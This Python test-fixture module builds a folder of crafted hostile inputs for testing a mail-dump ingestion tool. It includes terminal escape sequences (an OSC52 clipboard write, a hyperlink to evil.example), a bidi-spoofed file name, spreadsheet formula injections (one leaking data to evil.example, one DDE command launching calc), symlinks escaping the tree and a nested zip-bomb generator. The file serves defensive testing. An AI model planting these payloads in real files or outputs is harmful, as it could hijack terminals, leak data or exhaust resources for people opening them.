"""Provides build_hostile_tree: a folder of crafted inputs a hostile sender could put in a dump (issue 12).

Every case the product must survive has one file here, next to ordinary mail that must still be read:
terminal escapes and bidi controls in headers, bodies and attachment names, spreadsheet formulas, a file
name that is not UTF-8, a FIFO, a socket, a link to /dev/zero, links to a file and a folder outside the
tree, hostile charset names, a nested archive bomb and a long message (for broken pipes).
"""

from __future__ import annotations

import io
import os
import socket
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

ESC = "\x1b"
OSC52 = f"{ESC}]52;c;ZWNobyBwd25lZA==\x07"  # clipboard write
OSC0 = f"{ESC}]0;pwned\x07"  # window title
CLEAR = f"{ESC}[2J{ESC}[H"
OSC8 = f"{ESC}]8;;http://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\"
RLO_NAME = "invoice\u202egpj.exe"
C1_CSI = "\x9b31m"
HOSTILE_SUBJECT = f'=HYPERLINK("http://evil.example/?leak="&A1,"open") {OSC0}{CLEAR}'
HOSTILE_SENDER = f"Evil {OSC52}Sender"
HOSTILE_BODY = (f"Dear reader,{OSC52}{OSC52}\n{CLEAR}the body {OSC8} and {C1_CSI}red\u202e and a bell\x07.\n"
                "@SUM(1+1)\n+cmd|' /C calc'!A0\n")
FORMULA_SUBJECTS = ["@SUM(A1:A9)", "+1+1", "-2+3", "=1+1"]  # (a leading tab is stripped from a subject)
NORMAL_SUBJECT = "Quarterly budget review"
BAD_NAME = b"caf\xe9-\xff.eml"  # latin-1 bytes: not a valid UTF-8 file name


@dataclass
class HostileTree:
    root: Path  # give this folder to ingest
    outside_file: Path  # a mail file outside root that a link in root points to
    special: dict[str, Path] = field(default_factory=dict)  # what -> path inside root

    @property
    def bad_name(self) -> Path:
        return Path(os.fsdecode(os.path.join(os.fsencode(self.root), BAD_NAME)))


def eml(subject: str, body: str, *, sender: str = "Alice <alice@example.org>", msgid: str = "",
        extra_headers: str = "", attachment: tuple[str, bytes] | None = None, charset: str = "utf-8") -> bytes:
    """One RFC 822 message as bytes (headers and body UTF-8 unless charset says otherwise)."""
    msgid = msgid or f"<{abs(hash((subject, body))) % 10**12}@hostile.example>"
    head = (f"From: {sender}\r\nTo: Bob <bob@example.org>\r\nSubject: {subject}\r\nMessage-ID: {msgid}\r\n"
            f"Date: Tue, 3 Apr 2018 10:00:00 +0000\r\nMIME-Version: 1.0\r\n{extra_headers}")
    if attachment is None:
        return (head + f"Content-Type: text/plain; charset=\"{charset}\"\r\n\r\n").encode("utf-8") + \
            body.encode("utf-8" if charset in ("utf-8", "undefined") or "\x00" in charset else charset,
                        errors="replace") + b"\r\n"
    name, data = attachment
    import base64

    return (head + "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n"
            "Content-Type: text/plain; charset=\"utf-8\"\r\n\r\n" + body + "\r\n--b1\r\n"
            f"Content-Type: text/plain\r\nContent-Disposition: attachment; filename*=utf-8''{quote(name)}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(data).decode() + "\r\n--b1--\r\n"
            ).encode("utf-8")


def nested_bomb(leaves_per_zip: int = 12, inner_zips: int = 4, leaf_bytes: int = 9 * 1024 * 1024) -> bytes:
    """A 42.zip-style bomb in miniature: zips of zips whose leaves each expand over 1000x."""
    leaf = bytes(leaf_bytes)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(leaves_per_zip):
            z.writestr(f"leaf{i}.eml", leaf)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as z:
        for i in range(inner_zips):
            z.writestr(f"inner{i}.zip", inner.getvalue())
    return outer.getvalue()


def build_hostile_tree(base: Path, *, bomb: bool = True) -> HostileTree:
    """Write the crafted inputs under base/dump (and base/outside, which the dump's links point to)."""
    root = base / "dump"
    outside = base / "outside"
    root.mkdir(parents=True)
    outside.mkdir()
    tree = HostileTree(root, outside / "private.eml")
    tree.outside_file.write_bytes(eml("My own private mail", "not part of the dump", msgid="<private@home>"))
    (outside / "folder").mkdir()
    (outside / "folder" / "also-private.eml").write_bytes(eml("Private folder", "nope", msgid="<p2@home>"))

    (root / "normal.eml").write_bytes(eml(NORMAL_SUBJECT, "Numbers attached.", msgid="<normal@x>"))
    (root / "escapes.eml").write_bytes(eml(
        HOSTILE_SUBJECT, HOSTILE_BODY, sender=f'"{HOSTILE_SENDER}" <evil@hostile.example>', msgid="<escapes@x>",
        attachment=(RLO_NAME, f"attachment text {OSC52} end".encode()),
    ))
    for i, subject in enumerate(FORMULA_SUBJECTS):
        (root / f"formula{i}.eml").write_bytes(eml(subject, f"formula body {i}", msgid=f"<formula{i}@x>"))
    (root / "long.eml").write_bytes(eml("A long message", ("line of text " * 8 + "\n") * 6000, msgid="<long@x>"))
    (root / "charset-undefined.eml").write_bytes(
        eml("=?undefined?Q?Und=41fined?=", "caf\u00e9", charset="undefined", msgid="<cs1@x>"))
    (root / "charset-nul.eml").write_bytes(
        eml("nul charset", "caf\u00e9", charset="x\x00y", msgid="<cs2@x>"))
    with open(os.path.join(os.fsencode(root), BAD_NAME), "wb") as handle:
        handle.write(eml("Badly named file", "its name is latin-1", msgid="<badname@x>"))

    fifo = root / "pipe.eml"
    os.mkfifo(fifo)
    tree.special["fifo"] = fifo
    zero = root / "zero.eml"
    zero.symlink_to("/dev/zero")
    tree.special["dev_zero_link"] = zero
    out_link = root / "linked.eml"
    out_link.symlink_to(tree.outside_file)
    tree.special["outside_link"] = out_link
    dir_link = root / "linked-folder"
    dir_link.symlink_to(outside / "folder")
    tree.special["outside_dir_link"] = dir_link
    inside_link = root / "inside-link.eml"
    inside_link.symlink_to(root / "normal.eml")
    tree.special["inside_link"] = inside_link
    sock_path = root / "sock"
    try:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.bind(str(sock_path))
        sock.close()
        tree.special["socket"] = sock_path
    except OSError:  # path too long for AF_UNIX, or no sockets here
        pass
    if bomb:
        bomb_path = root / "bomb.zip"
        bomb_path.write_bytes(nested_bomb())
        tree.special["bomb"] = bomb_path
    return tree

HOSTILE_NOTE_TUI = f"note with a clipboard write {OSC52} and a title {OSC0}"
